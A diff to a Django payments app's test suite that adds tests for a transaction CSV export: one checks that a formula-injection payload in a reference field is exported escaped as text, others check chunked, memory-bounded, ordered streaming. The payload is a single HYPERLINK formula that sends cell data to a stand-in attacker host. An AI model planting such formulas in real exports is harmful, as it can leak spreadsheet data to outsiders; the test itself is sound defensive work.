@@ -1,11 +1,17 @@
 import csv
 import io
+import re
+import tracemalloc
 from datetime import UTC, datetime
+from unittest import mock
 
+from django.db import connection
 from django.test import TestCase
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from payments.models import Transaction
+from payments.models import CreditRequest, Transaction
+from payments.selectors import EXPORT_CHUNK_ROWS
 from payments.services import phone_charge_create, phone_charge_reverse
 from sellers.tests.factories import client_for, seller_make, staff_make
 
@@ -51,6 +57,15 @@ class TransactionExportTests(TestCase):
     def test_staff_export_covers_every_seller(self):
         rows = read_csv(client_for(staff_make()).get(self.url))
         self.assertEqual({int(row["seller"]) for row in rows}, {self.seller.pk, self.other.pk})
+
+    def test_a_reference_that_is_a_formula_reaches_the_export_as_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        phone_charge_create(
+            seller_id=self.seller.pk, phone_number="+14155550123", amount=1, reference=formula
+        )
+        rows = read_csv(client_for(staff_make()).get(self.url, {"kind": "charge"}))
+        self.assertEqual([row["reference"] for row in rows], ["", "'" + formula])
+        self.assertEqual({row["phone_number"] for row in rows}, {"+14155550123"})
 
     def test_export_without_a_token_is_refused_as_json(self):
         response = self.client.get(self.url, HTTP_ACCEPT="text/csv")
@@ -134,3 +149,93 @@ class RangedExportTests(TestCase):
     def test_an_export_without_a_start_has_no_opening_row(self):
         rows = self.export(self.seller.user)
         self.assertNotIn("opening_balance", {row["kind"] for row in rows})
+
+
+def journal_rows_make(*, seller, count: int) -> None:
+    """``count`` credit rows for ``seller``, written in bulk (no services: fast)."""
+    requests = CreditRequest.objects.bulk_create(
+        [CreditRequest(seller=seller, amount=1) for _ in range(count)], batch_size=2_000
+    )
+    Transaction.objects.bulk_create(
+        [
+            Transaction(seller=seller, kind="credit", amount=1, balance_after=n, credit_request=r)
+            for n, r in enumerate(requests, start=1)
+        ],
+        batch_size=2_000,
+    )
+
+
+# Behind PgBouncer in transaction mode (DATABASE_POOLER=pgbouncer) Django may not
+# open server-side cursors, so a plain iterator() would fetch the whole result.
+behind_a_transaction_pooler = mock.patch.dict(
+    connection.settings_dict, {"DISABLE_SERVER_SIDE_CURSORS": True}
+)
+
+
+@behind_a_transaction_pooler
+class ExportMemoryTests(TestCase):
+    """A long export reads its rows a bounded chunk at a time, whatever the pooler."""
+
+    SMALL = 5_000
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.small = seller_make()
+        cls.large = seller_make()
+        journal_rows_make(seller=cls.small, count=cls.SMALL)
+        journal_rows_make(seller=cls.large, count=4 * cls.SMALL)
+        cls.url = reverse("transaction-export")
+
+    def consume(self, seller) -> int:
+        """Read ``seller``'s whole export; return the peak memory Python held meanwhile."""
+        response = client_for(seller.user).get(self.url)
+        tracemalloc.start()
+        try:
+            lines = sum(1 for _ in response.streaming_content)
+            _, peak = tracemalloc.get_traced_memory()
+        finally:
+            tracemalloc.stop()
+        self.assertEqual(lines, 1 + Transaction.objects.filter(seller=seller).count())
+        return peak
+
+    def test_every_journal_query_of_a_long_export_is_limited_to_a_chunk(self):
+        rows_per_statement = []
+
+        def count_rows(execute, sql, params, many, context):
+            result = execute(sql, params, many, context)
+            rows_per_statement.append(context["cursor"].rowcount)  # -1 where unknown
+            return result
+
+        response = client_for(self.large.user).get(self.url)
+        with (
+            CaptureQueriesContext(connection) as queries,
+            connection.execute_wrapper(count_rows),
+        ):
+            rows = read_csv(response)
+        self.assertEqual(len(rows), 4 * self.SMALL)
+        journal_reads = [q["sql"] for q in queries if '"payments_transaction"' in q["sql"]]
+        self.assertGreater(len(journal_reads), 1)
+        for sql in journal_reads:
+            limit = re.search(r"LIMIT (\d+)$", sql)
+            self.assertIsNotNone(limit, f"unbounded journal read: {sql}")
+            self.assertLessEqual(int(limit.group(1)), EXPORT_CHUNK_ROWS)
+        self.assertLessEqual(max(rows_per_statement), EXPORT_CHUNK_ROWS)
+
+    def test_an_export_four_times_longer_holds_about_the_same_memory(self):
+        small_peak = self.consume(self.small)
+        large_peak = self.consume(self.large)
+        self.assertLess(large_peak, 1.5 * small_peak, (small_peak, large_peak))
+
+    def test_rows_written_during_an_export_are_left_to_the_next_export(self):
+        lines = iter(client_for(self.large.user).get(self.url).streaming_content)
+        next(lines)  # the header
+        next(lines)  # the first row: the first chunk has been read
+        journal_rows_make(seller=self.large, count=1)
+        self.assertEqual(sum(1 for _ in lines), 4 * self.SMALL - 1)
+
+    def test_a_chunked_export_lists_every_row_once_in_order(self):
+        rows = read_csv(client_for(self.large.user).get(self.url))
+        expected = Transaction.objects.filter(seller=self.large).order_by("id")
+        self.assertEqual(
+            [int(row["id"]) for row in rows], list(expected.values_list("id", flat=True))
+        )
